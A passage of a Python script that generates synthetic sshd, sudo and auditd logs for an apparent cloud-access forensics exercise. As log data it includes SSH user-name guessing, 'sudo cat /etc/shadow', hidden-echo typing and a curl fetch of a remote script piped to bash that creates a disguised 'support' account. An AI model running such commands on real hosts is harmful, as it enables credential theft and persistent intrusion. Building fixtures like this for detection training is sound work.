    execve = f"type=EXECVE {stamp}: argc={len(argv)} " + " ".join(
        f"a{i}={audit_value(arg)}" for i, arg in enumerate(argv))
    proctitle = "\0".join(argv).encode().hex().upper()
    return [
        syscall,
        execve,
        f"type=CWD {stamp}: cwd={audit_value(cwd)}",
        f"type=PATH {stamp}: item=0 name={audit_value(exe)} inode={40000 + pid} dev=ca:01 mode=0100755 "
        f"ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
        f"type=PROCTITLE {stamp}: proctitle={proctitle}",
        f"type=EOE {stamp}:",
    ]


def write_host_logs():
    bastion, _ = INSTANCES["prod-bastion-1"]
    host = "ip-10-0-0-44"
    secure = []
    # Tuesday night: someone tries common user names against the bastion's sshd.
    for n, name in enumerate(["admin", "oracle", "test", "ubuntu", "postgres", "git"]):
        moment = t("2026-10-06T03:20:05Z") + dt.timedelta(seconds=7 * n)
        secure.append((moment, f"{syslog_time(moment)} {host} sshd[{1190 + n}]: Invalid user {name} "
                               f"from 45.155.205.233 port {50122 + n}"))
    # bob's SSH session through Session Manager (AWS-StartSSHSession): sshd sees the login from
    # the agent, on loopback, as ec2-user with bob's key; then what he ran with sudo.
    lines = [
        ("2026-10-06T16:00:13Z", "sshd[2211]: Accepted publickey for ec2-user from 127.0.0.1 port 40112 "
                                 "ssh2: ED25519 SHA256:Ym9iLWxhcHRvcC1rZXktc2FtcGxlMDAwMDAwMDA"),
        ("2026-10-06T16:00:13Z", "sshd[2211]: pam_unix(sshd:session): session opened for user ec2-user by (uid=0)"),
        ("2026-10-06T16:02:40Z", "sudo: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/usr/sbin/visudo"),
        ("2026-10-06T16:02:40Z", "sudo: pam_unix(sudo:session): session opened for user root by ec2-user(uid=1000)"),
        ("2026-10-06T16:03:31Z", "sudo: pam_unix(sudo:session): session closed for user root"),
        ("2026-10-06T16:05:02Z", "sudo: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/bin/cat /etc/shadow"),
        ("2026-10-06T16:44:58Z", "sshd[2211]: pam_unix(sshd:session): session closed for user ec2-user"),
        # alice through EC2 Instance Connect: the key pushed at 13:10:00 is accepted for 60 seconds.
        ("2026-10-06T13:10:21Z", "sshd[1874]: Accepted publickey for ec2-user from 203.0.113.10 port 51822 "
                                 "ssh2: ED25519 SHA256:YWxpY2UtZWljLXNhbXBsZS1rZXktMDAwMDAwMDA"),
        ("2026-10-06T13:10:21Z", "sshd[1874]: pam_unix(sshd:session): session opened for user ec2-user by (uid=0)"),
        ("2026-10-06T13:11:05Z", "sudo: ec2-user : TTY=pts/1 ; PWD=/home/ec2-user ; USER=root ; "
                                 "COMMAND=/usr/bin/systemctl status sshd"),
        ("2026-10-06T13:14:40Z", "sshd[1874]: pam_unix(sshd:session): session closed for user ec2-user"),
    ]
    for when, rest in lines:
        secure.append((t(when), f"{syslog_time(t(when))} {host} {rest}"))
    secure.sort(key=lambda pair: pair[0])
    # auditd on the bastion (log_format = ENRICHED, the Amazon Linux 2023 default: names after
    # the 0x1d separator), with a watch on sudoers: `-w /etc/sudoers -p wa -k sudoers`.
    moment = t("2026-10-06T16:02:41Z")
    stamp = f"msg=audit({int(moment.timestamp())}.311:8812)"
    audit = [
        f"type=SYSCALL {stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1 a1=55d0c2 a2=55d0c3 "
        f"a3=0 items=2 ppid=2290 pid=2291 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 "
        f"fsgid=0 tty=pts0 ses=4 comm=\"visudo\" exe=\"/usr/sbin/visudo\" key=\"sudoers\""
        f"\x1dARCH=x86_64 SYSCALL=execve AUID=\"ec2-user\" UID=\"root\" GID=\"root\"",
        f"type=EXECVE {stamp}: argc=1 a0=\"/usr/sbin/visudo\"",
        f"type=CWD {stamp}: cwd=\"/home/ec2-user\"",
        f"type=PATH {stamp}: item=0 name=\"/etc/sudoers\" inode=33604 dev=ca:01 mode=0100440 ouid=0 "
        f"ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
        f"type=PROCTITLE {stamp}: proctitle=2F7573722F7362696E2F76697375646F",
    ]
    # bob's shell (sshd forks it without an exec auditd sees, so its parent is unknown: the
    # login's OS user ties it to his session), and what he ran from it.
    bob_execs = [
        ("2026-10-06T16:00:14Z", 8790, 2213, 2212, ["-bash"], "/usr/bin/bash", 1000, "ec2-user"),
        ("2026-10-06T16:02:40Z", 8811, 2290, 2213, ["sudo", "visudo"], "/usr/bin/sudo", 1000, "ec2-user"),
        ("2026-10-06T16:05:01Z", 8830, 2300, 2213, ["sudo", "cat", "/etc/shadow"], "/usr/bin/sudo", 1000, "ec2-user"),
        ("2026-10-06T16:05:01Z", 8831, 2301, 2300, ["cat", "/etc/shadow"], "/usr/bin/cat", 0, "root"),
    ]
    timed_audit = [(moment, line) for line in audit]
    for when, serial, pid, ppid, argv, exe, uid, uid_name in bob_execs:
        for line in exec_records(t(when), serial, pid, ppid, argv, exe, uid, uid_name,
                                 auid=(1000, "ec2-user"), ses=4, tty="pts0", cwd="/home/ec2-user"):
            timed_audit.append((t(when), line))
    timed_audit.sort(key=lambda pair: pair[0])
    out_dir = os.path.join(HERE, "cloudwatch", "host-logs")
    os.makedirs(out_dir)
    for name, timed in (("secure", secure), ("audit", timed_audit)):
        with open(os.path.join(out_dir, f"{bastion}-{name}.json"), "w") as f:
            json.dump(cwl_export(bastion, timed), f, indent=4)
            f.write("\n")

    # auditd on prod-web-1 during alice's Monday session: the session worker the agent starts
    # for her session id, her shell, sudo and su, a script and what it ran, a command typed with
    # echo off and the payload it fetched, and a daemon's exec at the same time (no session).
    # Session Manager shells have no login uid: auid and ses are unset.
    web, _ = INSTANCES["prod-web-1"]
    unset = (4294967295, "unset")
    alice = [
        ("2026-10-05T09:12:03Z", 20101, 3100, 1850, ["/usr/bin/ssm-session-worker", "alice-0a7f3c9e1b2d4f601", web],
         "/usr/bin/ssm-session-worker", 0, "root", "/", None),
        ("2026-10-05T09:12:04Z", 20102, 3101, 3100, ["sh"], "/usr/bin/bash", 1000, "ec2-user", "/home/ec2-user", "pts0"),
        ("2026-10-05T09:12:08Z", 20110, 3105, 3101, ["whoami"], "/usr/bin/whoami", 1000, "ec2-user", "/home/ec2-user", "pts0"),
        ("2026-10-05T09:12:30Z", 20120, 3110, 3101, ["sudo", "systemctl", "restart", "nginx"], "/usr/bin/sudo", 1000, "ec2-user",
         "/home/ec2-user", "pts0"),
        ("2026-10-05T09:12:30Z", 20121, 3111, 3110, ["systemctl", "restart", "nginx"], "/usr/bin/systemctl", 0, "root",
         "/home/ec2-user", "pts0"),
        ("2026-10-05T09:13:01Z", 20130, 3120, 3101, ["sudo", "su", "-"], "/usr/bin/sudo", 1000, "ec2-user", "/home/ec2-user", "pts0"),
        ("2026-10-05T09:13:01Z", 20131, 3121, 3120, ["su", "-"], "/usr/bin/su", 0, "root", "/home/ec2-user", "pts0"),
        ("2026-10-05T09:13:01Z", 20132, 3122, 3121, ["-bash"], "/usr/bin/bash", 0, "root", "/root", "pts0"),
        ("2026-10-05T09:13:39Z", 20140, 3130, 3122, ["tail", "-n", "20", "/var/log/secure"], "/usr/bin/tail", 0, "root",
         "/root", "pts0"),
        ("2026-10-05T09:14:29Z", 20150, 3140, 3122, ["/bin/bash", "/usr/local/sbin/rotate-logs.sh"], "/usr/bin/bash", 0,
         "root", "/root", "pts0"),
        ("2026-10-05T09:14:29Z", 20151, 3141, 3140, ["find", "/var/log/nginx", "-name", "*.log", "-mtime", "+7"],
         "/usr/bin/find", 0, "root", "/root", "pts0"),
        ("2026-10-05T09:14:29Z", 20152, 3142, 3140, ["gzip", "-9", "/var/log/nginx/access.log-20260928"], "/usr/bin/gzip",
         0, "root", "/root", "pts0"),
        ("2026-10-05T09:15:00Z", 20155, 3150, 1, ["/usr/sbin/logrotate", "/etc/logrotate.conf"], "/usr/sbin/logrotate", 0,
         "root", "/", None),
        ("2026-10-05T09:15:19Z", 20160, 3151, 3122, ["stty", "-echo"], "/usr/bin/stty", 0, "root", "/root", "pts0"),
        ("2026-10-05T09:16:04Z", 20170, 3160, 3122, ["curl", "-s", "http://198.51.100.250/i.sh"], "/usr/bin/curl", 0, "root",
         "/root", "pts0"),
        ("2026-10-05T09:16:04Z", 20171, 3161, 3122, ["bash"], "/usr/bin/bash", 0, "root", "/root", "pts0"),
        ("2026-10-05T09:16:04Z", 20172, 3162, 3161, ["useradd", "-m", "-c", "Support Account", "support"],
         "/usr/sbin/useradd", 0, "root", "/root", "pts0"),
        ("2026-10-05T09:16:30Z", 20180, 3170, 3122, ["stty", "echo"], "/usr/bin/stty", 0, "root", "/root", "pts0"),
    ]
    # bob's Run Command on Tuesday (AWS-RunShellScript): the agent's document worker for the
    # command id, `sh -c` of the script it wrote under its orchestration folder, and what the
    # script ran. No terminal, no login uid, no transcript.
    script = (f"/var/lib/amazon/ssm/{web}/document/orchestration/{RUN_COMMAND_ID}/"
              f"awsrunShellScript/0.awsrunShellScript/_script.sh")
    alice += [
        ("2026-10-06T12:30:01Z", 30501, 4410, 1840, ["/usr/bin/ssm-document-worker", RUN_COMMAND_ID],
         "/usr/bin/ssm-document-worker", 0, "root", "/", None),
        ("2026-10-06T12:30:01Z", 30502, 4411, 4410, ["sh", "-c", script], "/usr/bin/bash", 0, "root", "/", None),
        ("2026-10-06T12:30:02Z", 30503, 4412, 4411, ["/usr/bin/python3", "/usr/bin/dnf", "-y", "upgrade", "openssl"],
         "/usr/bin/python3.9", 0, "root", "/", None),
        ("2026-10-06T12:30:41Z", 30540, 4460, 4411, ["rpm", "-q", "openssl"], "/usr/bin/rpm", 0, "root", "/", None),
    ]
    timed = []
    for when, serial, pid, ppid, argv, exe, uid, uid_name, cwd, tty in alice:
        for line in exec_records(t(when), serial, pid, ppid, argv, exe, uid, uid_name,
                                 auid=unset, ses=4294967295, tty=tty, cwd=cwd):
            timed.append((t(when), line))
    with open(os.path.join(out_dir, f"{web}-audit.json"), "w") as f:
        json.dump(cwl_export(web, timed), f, indent=4)
        f.write("\n")

    # An Azure Arc machine with Microsoft Entra ID SSH login: no Session Manager at all. Ubuntu
    # 24.04's rsyslog writes RFC 3339 times.
    arc = [
        ("2026-10-06T19:20:01.412877+00:00", "aad_certhandler[5120]: Version: 1.0.022600001; user: carol@example.com"),
        ("2026-10-06T19:20:02.036114+00:00", "sshd[5118]: Accepted publickey for carol@example.com from 192.0.2.77 "
                                             "port 51544 ssh2: RSA-CERT SHA256:Y2Fyb2wtZW50cmEtY2VydGlmaWNhdGUwMDA "
                                             "ID carol@example.com (serial 0) CA RSA SHA256:ZW50cmEtaWQtc3NoLWNhMDAwMDA"),
        ("2026-10-06T19:20:02.040512+00:00", "sshd[5118]: pam_unix(sshd:session): session opened for user carol@example.com by (uid=0)"),
        ("2026-10-06T19:21:15.220931+00:00", "sudo: carol@example.com : TTY=pts/1 ; PWD=/home/carol@example.com ; "
                                             "USER=root ; COMMAND=/usr/bin/journalctl -u nginx -n 50"),
        ("2026-10-06T19:29:40.118305+00:00", "sshd[5118]: pam_unix(sshd:session): session closed for user carol@example.com"),
    ]
    out_dir = os.path.join(HERE, "hosts", "arc-web-1")
    os.makedirs(out_dir)
    with open(os.path.join(out_dir, "auth.log"), "w") as f:
        for when, rest in arc:
            f.write(f"{when} arc-web-1 {rest}\n")


def main():
    for sub in ("cloudwatch", "s3", "hosts"):
        shutil.rmtree(os.path.join(HERE, sub), ignore_errors=True)
    session_by_id = {s[0]: s for s in SESSIONS}
    write_streams(session_by_id)
    write_transcripts()
    distinct, delivered = write_cloudtrail()
    write_host_logs()
    print(f"wrote {len(STREAMS)} streams, 2 transcripts, {distinct} CloudTrail records "
          f"({delivered} delivered), host logs of 2 machines")


if __name__ == "__main__":
    main()
